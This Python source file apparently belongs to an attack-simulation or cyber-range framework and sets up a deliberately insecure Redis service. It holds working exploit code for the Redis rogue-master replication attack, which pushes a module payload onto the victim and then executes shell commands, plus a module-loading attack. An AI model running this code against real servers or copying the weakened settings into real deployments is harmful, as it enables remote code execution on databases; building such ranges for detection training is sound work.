"""Redis of Debian, with both ways to keep data; it takes settings and modules from whoever is connected, as many do."""

import hashlib
import os
import shutil
import socket
import threading
import time

from attacks.inside import redis
from attacks.attack import Attack
from node import NEIGHBOURS
from services.service import Service

CONFIG = """
bind 127.0.0.1
dir /var/lib/redis
save 15 50
appendonly yes
auto-aof-rewrite-min-size 256kb
logfile /var/log/redis/redis.log
enable-module-command yes
enable-protected-configs yes
"""


class Redis(Service):
    name = "redis"
    user = run_as = "redis"
    inside = redis.ATTACKS
    conf = CONFIG
    command = ["redis-server", "/srv/conf/redis.conf"]
    client = ["sh", "/load/redis.sh"]

    def prepare(self, replica):
        conf, logs = f"{replica.top}/conf", f"{replica.top}/log"
        for directory in (conf, logs):
            os.makedirs(directory, exist_ok=True)
        os.chmod(logs, 0o777)
        with open(f"{conf}/redis.conf", "w") as file:
            file.write(self.conf)
        # Where people put modules, and whoever can write there.
        modules = f"{replica.top}/modules"
        os.makedirs(modules, exist_ok=True)
        shutil.copy(f"{replica.node.top}/www/module.so", modules)
        os.chmod(f"{modules}/module.so", 0o755)
        return [(conf, "/srv/conf:ro"), (logs, "/var/log/redis"), (modules, "/opt/modules:ro")]

    def is_ready(self, replica):
        return replica.server.within(ask, "PING") == "PONG"

    def rotate(self, replica):
        # Redis opens its log for each line.
        os.rename(f"{replica.top}/log/redis.log", f"{replica.top}/log/redis.log.1")

    def reload(self, replica):
        """It has no settings to read again: they are set while it runs."""
        replica.server.within(ask, "CONFIG", "SET", "maxmemory-samples", "6")
        try:
            replica.server.within(ask, "BGREWRITEAOF")
        except OSError as error:
            # Its own turn has come just now.
            if "already in progress" not in str(error):
                raise

    def foothold_attacks(self):
        return [
            Attack(
                "T1210",
                "a rogue master sends a program for a database",
                send_program,
                ("open", r"/var/lib/redis/(x\.so|temp-)"),
                way="inside",
                signs=(("connect", rf"{NEIGHBOURS}\.7:"),),
            ),
            Attack(
                "T1129",
                "a module that someone put there is loaded",
                load_module,
                ("open", r"/module\.so$"),
                way="inside",
            ),
        ]

    def shell(self, replica, command):
        return "DONE" in replica.server.within(ask, "run.shell", command + "\n[ $? = 0 ] && echo DONE")

    def within_worker(self, replica, words):
        return "DONE" in replica.server.within(ask, *words)


def send_program(service, replica):
    """As by the tools of 2019: the victim becomes the replica of a master that sends a module for a database."""
    with open(f"{replica.node.top}/www/module.so", "rb") as file:
        payload = file.read()
    master = replica.server.within(socket.create_server, (f"{NEIGHBOURS}.7", 7000))
    sent = threading.Event()
    threading.Thread(target=play_master, args=(master, payload, sent), daemon=True).start()
    replica.server.within(ask, "CONFIG", "SET", "dbfilename", "x.so")
    replica.server.within(ask, "REPLICAOF", f"{NEIGHBOURS}.7", "7000")
    sent.wait(10)
    time.sleep(1)
    replica.server.within(ask, "REPLICAOF", "NO", "ONE")
    replica.server.within(ask, "CONFIG", "SET", "dbfilename", "dump.rdb")
    master.close()
    return sent.is_set()


def load_module(service, replica):
    return replica.server.within(ask, "MODULE", "LOAD", "/opt/modules/module.so") == "OK"


def play_master(server, payload, sent):
    server.settimeout(15)
    client, _ = server.accept()
    with client:
        client.settimeout(10)
        while True:
            request = client.recv(65536).upper()
            if not request:
                return
            if b"PSYNC" in request:
                client.sendall(
                    b"+FULLRESYNC "
                    + hashlib.sha1(payload).hexdigest().encode()
                    + b" 1\r\n"
                    + b"$%d\r\n" % len(payload)
                    + payload
                )
                time.sleep(1)
                sent.set()
                return
            client.sendall(b"+PONG\r\n" if b"PING" in request else b"+OK\r\n")


def ask(*words):
    with socket.create_connection(("127.0.0.1", 6379), timeout=10) as server:
        request = b"*%d\r\n" % len(words)
        for word in words:
            data = word.encode()
            request += b"$%d\r\n%s\r\n" % (len(data), data)
        server.sendall(request)
        stream = server.makefile("rb")
        head = stream.readline().decode().rstrip()
        if head.startswith("$") and int(head[1:]) >= 0:
            return stream.read(int(head[1:])).decode(errors="replace")
        if head.startswith("-"):
            raise OSError(head)
        return head[1:]
